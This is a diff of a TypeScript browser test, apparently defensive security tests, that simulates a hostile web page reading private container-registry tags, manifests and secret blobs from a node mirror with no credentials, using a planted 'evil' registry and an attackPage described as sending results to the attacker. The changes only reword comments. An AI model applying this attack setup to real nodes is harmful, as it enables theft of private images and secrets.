@@ -12,32 +12,32 @@ import { requires } from '../support/requires.ts';
 /** Milliseconds that a page waits for something that it embeds. */
 const LOADED_WITHIN = 5000;
 
-/** One way in which a page asks for a target, and what came of it. */
+/** One way in which a page asks for a target, and its result. */
 interface Try {
   readonly how: string;
   readonly target: string;
-  /** What it could read or tell; empty if that is nothing. */
+  /** Text that it could read or tell; empty if there is none. */
   readonly got: string;
 }
 
 requires('chromium', ...ATTACK_NEEDS)('a web page in a browser', () => {
   const lab = shared(async (stack) => {
     const scene = stack.use(await AttackScene.start({ layer: 100 * KIB }));
-    // As an operator has it whose runtimes send no credentials: all programs of the node may read what these open.
+    // For an operator whose runtimes send no credentials: all programs of the node may read what these open.
     const registries = { [scene.registry.host]: VICTIM };
     await scene.node().restart({ registries });
     await scene.victimPulls();
     return { scene, registries };
   });
 
-  /** What the node gives to programs without a credential, as paths at the mirror. */
+  /** Paths at the mirror that the node serves to programs without a credential. */
   const secrets = (): readonly string[] => {
     const { image, secret, registry } = lab().scene;
     const paths = ['tags/list', `manifests/${image.digest}`, `blobs/${secret.digest}`];
     return paths.map((path) => `/v2/${PRIVATE}/${path}?ns=${registry.host}`);
   };
 
-  /** A list of tags and a manifest of the attacker's registry that are HTML to whoever goes by their media type. */
+  /** A list of tags and a manifest of the attacker's registry whose media type is HTML. */
   const planted = (site: AttackerSite): readonly string[] => {
     const { evil } = lab().scene;
     const html = site.robber(secrets());
@@ -57,7 +57,7 @@ requires('chromium', ...ATTACK_NEEDS)('a web page in a browser', () => {
     return ['tags/list', `manifests/${digest}`].map((path) => `/v2/evil/x/${path}?ns=${evil.host}`);
   };
 
-  it('is what these tests take it for: programs get what it is after', async () => {
+  it('finds content to steal: programs get it (the attack works)', async () => {
     const node = lab().scene.node();
     for (const target of secrets()) assert.equal((await fetch(node.url + target)).status, 200, target);
     assert.equal((await fetch(`${node.adminUrl}/v1/status`)).status, 200);
@@ -132,7 +132,7 @@ requires('chromium', ...ATTACK_NEEDS)('a web page in a browser', () => {
   }
 });
 
-/** Tries in each way what can be tried, and sends home what came of it. */
+/** Tries all ways, and sends the results to the attacker. */
 function attackPage(read: readonly string[], framed: readonly string[]): string {
   return `<body><script type="module">
     const tries = [];
